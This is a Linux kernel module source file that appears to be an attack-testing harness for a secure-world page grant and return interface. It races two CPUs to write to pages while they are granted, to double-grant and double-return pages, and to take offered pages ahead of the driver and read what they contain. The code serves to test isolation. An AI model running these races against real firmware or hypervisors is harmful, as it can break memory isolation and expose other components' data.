// SPDX-License-Identifier: GPL-2.0 OR Apache-2.0
/*
 * Two CPUs at once, on a page of our own.
 *
 * `race-touch ROUNDS`: one grants and returns it, the other writes to it all the time. "leaks": writes
 * that succeeded although the page was granted before they began and until after they ended.
 * `race-double ROUNDS`: both grant it, then both return it. "grants", "returns": rounds in which not
 * exactly one of the two succeeded.
 *
 * `race-take ADDRESS PAGES MS`: takes these pages as soon as the secure world offers them, before the
 * driver does, unless it is first. "taken" 1 if we were, "words" that were not zero then, "again" the
 * status of taking them once more.
 */
#include <linux/completion.h>
#include <linux/kthread.h>
#include <linux/mm.h>
#include <linux/uaccess.h>

#include "flexattack.h"

static struct {
	u64 rounds, leaks, writes, faults;
	u64 granted; /* the round in which the page is granted now; 0: it may not be */
	bool stop;
	struct completion ended;
} race;

static bool wrote(u64 *at, u64 value)
{
	__put_kernel_nofault(at, &value, u64, fault);
	return true;
fault:
	return false;
}

static int toucher(void *unused)
{
	u64 *at = page_address(victim());

	while (!READ_ONCE(race.stop)) {
		u64 before = smp_load_acquire(&race.granted);
		bool came = wrote(at, before);

		mb();
		if (came && before && before == READ_ONCE(race.granted))
			race.leaks++;
		race.writes += came;
		race.faults += !came;
		cond_resched();
	}
	complete(&race.ended);
	return 0;
}

static int start_other(int (*body)(void *))
{
	struct task_struct *task = kthread_create(body, NULL, "flexattack-2");

	if (IS_ERR(task))
		return PTR_ERR(task);
	init_completion(&race.ended);
	wake_up_process(task);
	return 0;
}

void race_touch(struct attack *attack)
{
	u64 ipa = page_to_phys(victim()), refused = 0;

	memset(&race, 0, sizeof(race));
	race.rounds = word(attack, 1);
	attack->error = start_other(toucher);
	if (attack->error)
		return;
	for (u64 round = 1; round <= race.rounds; round++) {
		if (smc(FLEX_CALL_GRANT, ipa, 1)) {
			refused++;
			continue;
		}
		smp_store_release(&race.granted, round);
		for (int i = 0; i < 50; i++)
			cpu_relax();
		mb();
		WRITE_ONCE(race.granted, 0);
		mb();
		if (smc(FLEX_CALL_RETURN, ipa, 1))
			refused++;
		cond_resched();
	}
	WRITE_ONCE(race.stop, true);
	wait_for_completion(&race.ended);
	tell(attack, "rounds", race.rounds);
	tell(attack, "refused", refused);
	tell(attack, "leaks", race.leaks);
	tell(attack, "writes", race.writes);
	tell(attack, "faults", race.faults);
}

/* ---- both do the same ---- */

static struct {
	atomic_t arrived; /* counts up: an even step when both are there */
	atomic_t succeeded[2];
	u64 rounds;
} duel;

/* Waits for the other one, so that what follows happens at once. */
static void meet(int step)
{
	atomic_inc(&duel.arrived);
	while (atomic_read(&duel.arrived) < 2 * step)
		cond_resched();
}

static void fight(u64 *wrong_grants, u64 *wrong_returns)
{
	u64 ipa = page_to_phys(victim());
	int step = 0;

	for (u64 round = 0; round < duel.rounds; round++) {
		meet(++step);
		if (!smc(FLEX_CALL_GRANT, ipa, 1))
			atomic_inc(&duel.succeeded[0]);
		meet(++step);
		if (!smc(FLEX_CALL_RETURN, ipa, 1))
			atomic_inc(&duel.succeeded[1]);
		meet(++step);
		if (wrong_grants) { /* one of them is the judge, while the other waits */
			*wrong_grants += atomic_xchg(&duel.succeeded[0], 0) != 1;
			*wrong_returns += atomic_xchg(&duel.succeeded[1], 0) != 1;
		}
		meet(++step);
	}
}

static int fighter(void *unused)
{
	fight(NULL, NULL);
	complete(&race.ended);
	return 0;
}

void race_double(struct attack *attack)
{
	u64 wrong_grants = 0, wrong_returns = 0;

	memset(&duel, 0, sizeof(duel));
	duel.rounds = min(word(attack, 1), (u64)INT_MAX / 8);
	attack->error = start_other(fighter);
	if (attack->error)
		return;
	fight(&wrong_grants, &wrong_returns);
	wait_for_completion(&race.ended);
	tell(attack, "rounds", duel.rounds);
	tell(attack, "grants", wrong_grants);
	tell(attack, "returns", wrong_returns);
}

/* ---- a race with the driver ---- */

static u64 nonzero_words(const u64 *at, u64 pages)
{
	u64 found = 0;

	for (u64 i = 0; i < pages * PAGE_SIZE / sizeof(*at); i++)
		found += READ_ONCE(at[i]) != 0;
	return found;
}

static bool is_normal(u64 ipa)
{
	struct arm_smccc_res answer;

	arm_smccc_smc(FLEX_SMC_BASE + FLEX_CALL_STATE, ipa, 0, 0, 0, 0, 0, 0, &answer);
	return answer.a0 == FLEX_STATUS_OK && answer.a1 == FLEX_STATE_NORMAL;
}

void race_take(struct attack *attack)
{
	u64 ipa = word(attack, 1), pages = clamp_t(u64, word(attack, 2), 1, FLEX_CALL_PAGES_MAX);
	u64 end = ktime_get_ns() + word(attack, 3) * NSEC_PER_MSEC;
	int status;

	do {
		cond_resched();
		smc(FLEX_CALL_POLL, 0, 0); /* has the offer made, and keeps the notice of it from the driver */
		status = smc(FLEX_CALL_TAKE, ipa, pages);
	} while (status && !is_normal(ipa) && ktime_get_ns() < end);
	tell(attack, "taken", !status);
	tell(attack, "words", status ? 0 : nonzero_words(__va(ipa), pages));
	tell(attack, "again", smc(FLEX_CALL_TAKE, ipa, pages));
}
